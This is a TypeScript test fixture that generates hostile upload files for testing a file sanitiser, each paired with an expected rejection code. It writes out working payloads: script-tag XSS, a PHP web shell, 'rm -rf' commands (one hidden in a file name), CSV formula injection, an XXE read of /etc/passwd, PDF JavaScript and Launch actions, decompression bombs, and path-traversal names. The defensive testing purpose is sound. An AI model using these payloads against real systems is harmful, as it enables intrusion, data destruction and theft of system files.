import { deflateSync, gzipSync } from 'node:zlib';
import { PDFDocument } from '@cantoo/pdf-lib';
import { claimedPng, heicPhoto, jpeg, photoWithPlace, png, pngText } from './pictures';
import { manyPages, onePage, rawPdf, stream } from './raw-pdf';
import { zipOf } from './zip-of';

export interface HostileFile {
  name: string;
  content: Buffer;
  /** Code of the problem it must be told, or `accepted` where cleaning is the answer. */
  expected: string;
}

// In two halves: a scanner on the developer's machine must not take this file for the thing itself.
export const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('');

const text = (value: string): Buffer => Buffer.from(value, 'utf8');
const hex = (value: string): Buffer => Buffer.from(value, 'hex');
const script = '<script>alert(document.cookie)</script>';

/** EICAR as an uncompressed stream: a valid PDF with nothing active in it. Only a scanner sees it. */
export const infectedPdf = (): Buffer => onePage('', stream(text(EICAR)));

function otherTypes(): [name: string, content: Buffer][] {
  return [
    ['bild.svg', text('<svg xmlns="http://www.w3.org/2000/svg"/>')],
    ['bild-mit-skript.svg', text(`<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`)],
    ['bild.svg.png', text(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`)],
    ['seite.html', text(`<!doctype html><html>${script}</html>`)],
    ['seite.pdf', text(`<html><!-- %PDF-1.7 -->${script}</html>`)],
    ['bom.jpg', Buffer.concat([hex('efbbbf'), text(`<html>${script}`)])],
    ['seite.xhtml', text(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`)],
    ['skript.js', text('alert(1)')],
    ['skript.php.jpg', text('<?php system($_GET["c"]); ?>')],
    ['skript.sh', text('#!/bin/sh\nrm -rf /\n')],
    ['programm.exe', Buffer.concat([text('MZ'), Buffer.alloc(200)])],
    ['rechnung.pdf.exe', Buffer.concat([text('MZ'), Buffer.alloc(64), text('%PDF-1.7')])],
    ['programm', Buffer.concat([hex('7f454c46020101'), Buffer.alloc(100)])],
    ['modul.wasm', hex('0061736d01000000')],
    ['klasse.class', hex('cafebabe00000034')],
    ['archiv.zip', zipOf({ 'a.txt': text('a') })],
    ['eicar.zip', zipOf({ 'eicar.com': text(EICAR) })],
    ['brief.docx', zipOf({ '[Content_Types].xml': text('<Types/>'), 'word/document.xml': text('<w/>') })],
    ['archiv.gz', gzipSync(text('a'))],
    ['archiv.7z', Buffer.concat([hex('377abcaf271c0004'), Buffer.alloc(40)])],
    ['archiv.rar', Buffer.concat([hex('526172211a0700'), Buffer.alloc(40)])],
    ['bild.gif', hex('47494638396101000100800000000000ffffff2c00000000010001000002024401003b')],
    [
      'gifar.gif',
      Buffer.concat([
        hex('47494638396101000100800000000000ffffff2c00000000010001000002024401003b'),
        zipOf({ 'A.class': hex('cafebabe') }),
      ]),
    ],
    ['bild.bmp', Buffer.concat([text('BM'), Buffer.alloc(60)])],
    ['bild.tiff', Buffer.concat([hex('49492a0008000000'), Buffer.alloc(60)])],
    ['bild.webp', Buffer.concat([text('RIFF'), hex('24000000'), text('WEBPVP8 '), Buffer.alloc(40)])],
    ['symbol.ico', Buffer.concat([hex('000001000100'), Buffer.alloc(40)])],
    ['film.mp4', Buffer.concat([hex('00000018'), text('ftypmp42'), Buffer.alloc(40)])],
    ['ton.mp3', Buffer.concat([text('ID3'), hex('030000000000'), Buffer.alloc(100)])],
    ['druck.ps', text('%!PS-Adobe-3.0\n')],
    ['brief.rtf', text('{\\rtf1 Brief}')],
    ['text.pdf', text('Das ist kein PDF.')],
    ['tabelle.csv', text('=cmd|calc!A1;1')],
    ['daten.xml', text('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>')],
    ['daten.json', text('{"a":1}')],
    ['eicar.com', text(EICAR)],
    ['eicar.pdf', text(EICAR)],
    ['zufall.jpg', hex('13579bdf02468ace'.repeat(40))],
    ['nullen.pdf', Buffer.alloc(4_096)],
    ['spaet.pdf', Buffer.concat([text('\n'.repeat(40)), onePage()])],
  ];
}

async function damaged(): Promise<[string, Buffer][]> {
  const [photo, drawing, paper, heic] = [await jpeg(), await png(), onePage(), heicPhoto()];
  return [
    ['abgeschnitten.jpg', photo.subarray(0, photo.length / 2)],
    ['abgeschnitten.png', drawing.subarray(0, drawing.length / 2)],
    ['abgeschnitten.pdf', paper.subarray(0, paper.length / 2)],
    ['abgeschnitten.heic', heic.subarray(0, heic.length / 2)],
    ['nur-anfang.jpg', hex('ffd8ffe000104a464946')],
    ['schmal.png', claimedPng(2_000_000_000, 1)],
    ['nur-anfang.png', hex('89504e470d0a1a0a0000000d49484452')],
    ['nur-anfang.pdf', text('%PDF-1.7\n')],
    ['html-als.jpg', Buffer.concat([hex('ffd8ffe0'), text(`<html>${script}</html>`)])],
    ['html-als.pdf', text(`%PDF-1.7\n<html>${script}</html>\n%%EOF`)],
    ['zip-dahinter.pdf', Buffer.concat([onePage(), zipOf({ 'A.class': hex('cafebabe') })])],
    ['html-dahinter.pdf', Buffer.concat([onePage(), text(`<html>${script}</html>`)])],
    ['ohne-seiten.pdf', rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>'])],
  ];
}

async function activePdfs(): Promise<[string, Buffer][]> {
  const action = (inside: string): string => `/OpenAction << /Type /Action ${inside} >>`;
  const packed = await PDFDocument.create();
  packed.addPage();
  packed.addJavaScript('main', 'app.alert(1)');
  return [
    ['javascript.pdf', onePage(action('/S /JavaScript /JS (app.alert\\(1\\))'))],
    ['verkleidet.pdf', onePage(action('/S /J#61vaScript /J#53 (app.alert\\(1\\))'))],
    ['in-objektstrom.pdf', Buffer.from(await packed.save({ useObjectStreams: true }))],
    [
      'namen.pdf',
      onePage('/Names << /JavaScript << /Names [(a) 5 0 R] >> >>', undefined, '<< /S /JavaScript /JS (1) >>'),
    ],
    ['launch.pdf', onePage(action('/S /Launch /F (cmd.exe)'))],
    [
      'anhang.pdf',
      onePage(
        '/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>',
        undefined,
        '<< /Type /Filespec /F (a) /EF << /F 6 0 R >> >>',
        stream(text('MZ')),
      ),
    ],
    ['formular.pdf', onePage(action('/S /SubmitForm /F (https://boese.example)'))],
    ['xfa.pdf', onePage('/AcroForm << /Fields [] /XFA 5 0 R >>', undefined, stream(text('<xdp/>')))],
    ['rich-media.pdf', onePage('/A 5 0 R', undefined, '<< /Subtype /RichMedia >>')],
    ['fremde-datei.pdf', onePage(action('/S /GoToE /T << /R /C >>'))],
  ];
}

async function encryptedPdf(userPassword?: string): Promise<Buffer> {
  const document = await PDFDocument.create();
  document.addPage();
  document.encrypt({ ...(userPassword ? { userPassword } : { userPassword: '' }), ownerPassword: 'chef' });
  return Buffer.from(await document.save({ useObjectStreams: false }));
}

function bombs(): [string, Buffer][] {
  const zeros = deflateSync(Buffer.alloc(200 * 2 ** 20), { level: 9 });
  const many = Array.from({ length: 12 }, () =>
    stream(deflateSync(Buffer.alloc(10 * 2 ** 20)), '/Filter /FlateDecode'),
  );
  return [
    ['bombe.pdf', onePage('', stream(zeros, '/Filter /FlateDecode'))],
    ['bombe-doppelt.pdf', onePage('', stream(deflateSync(zeros), '/Filter [/FlateDecode /FlateDecode]'))],
    ['bomben.pdf', onePage('', undefined, ...many)],
  ];
}

async function tooLarge(): Promise<[string, Buffer][]> {
  const frame = await jpeg(64, 64);
  const claimed = Buffer.from(frame);
  const at = claimed.indexOf(hex('ffc0'));
  claimed.writeUInt16BE(65_500, at + 5);
  claimed.writeUInt16BE(65_500, at + 7);
  return [
    ['65500.png', claimedPng(65_500, 65_500)],
    ['65500.jpg', claimed],
    ['41-megapixel.png', claimedPng(8_200, 5_000)],
  ];
}

async function cleaned(): Promise<[string, Buffer][]> {
  const [photo, place] = [await jpeg(), await photoWithPlace()];
  const commented = await png();
  const ends = commented.length - 12;
  return [
    ['foto.jpg', photo],
    ['zeichnung.png', await png()],
    ['foto.heic', heicPhoto()],
    ['papier.pdf', onePage()],
    ['fuenfzig.pdf', manyPages(50)],
    ['ort.jpg', place],
    ['html-dahinter.jpg', Buffer.concat([photo, text(`<html>${script}</html>`)])],
    ['zip-dahinter.jpg', Buffer.concat([photo, zipOf({ 'A.class': hex('cafebabe') })])],
    [
      'php-im-text.png',
      Buffer.concat([commented.subarray(0, ends), pngText('<?php system(1); ?>'), commented.subarray(ends)]),
    ],
    ['eicar-im-strom.pdf', infectedPdf()],
    ['../../../etc/passwd.pdf', onePage()],
    ['..\\..\\windows\\win.ini.pdf', onePage()],
    ['rechnung\u0000.exe.pdf', onePage()],
    ['rechnung\u202efdp.exe', onePage()],
    ['rechnung.pdf.exe', onePage()],
    ['"; rm -rf ~ #.pdf', onePage()],
    [`${'lang'.repeat(200)}.pdf`, onePage()],
    ['\r\nSet-Cookie: a=b.pdf', onePage()],
  ];
}

/** Files that strangers send, each with what must become of it. Everything is made here; nothing real is in it. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const as =
    (expected: HostileFile['expected']) =>
    ([name, content]: [string, Buffer]): HostileFile => ({ name, content, expected });
  return [
    ...otherTypes().map(as('file-type-not-allowed')),
    ...(await damaged()).map(as('file-broken')),
    ...(await activePdfs()).map(as('pdf-active-content')),
    as('pdf-encrypted')(['passwort.pdf', await encryptedPdf('geheim')]),
    as('pdf-encrypted')(['nur-rechte.pdf', await encryptedPdf()]),
    as('too-many-pages')(['51-seiten.pdf', manyPages(51)]),
    ...bombs().map(as('file-too-complex')),
    ...(await tooLarge()).map(as('image-too-large')),
    ...(await cleaned()).map(as('accepted')),
  ];
}
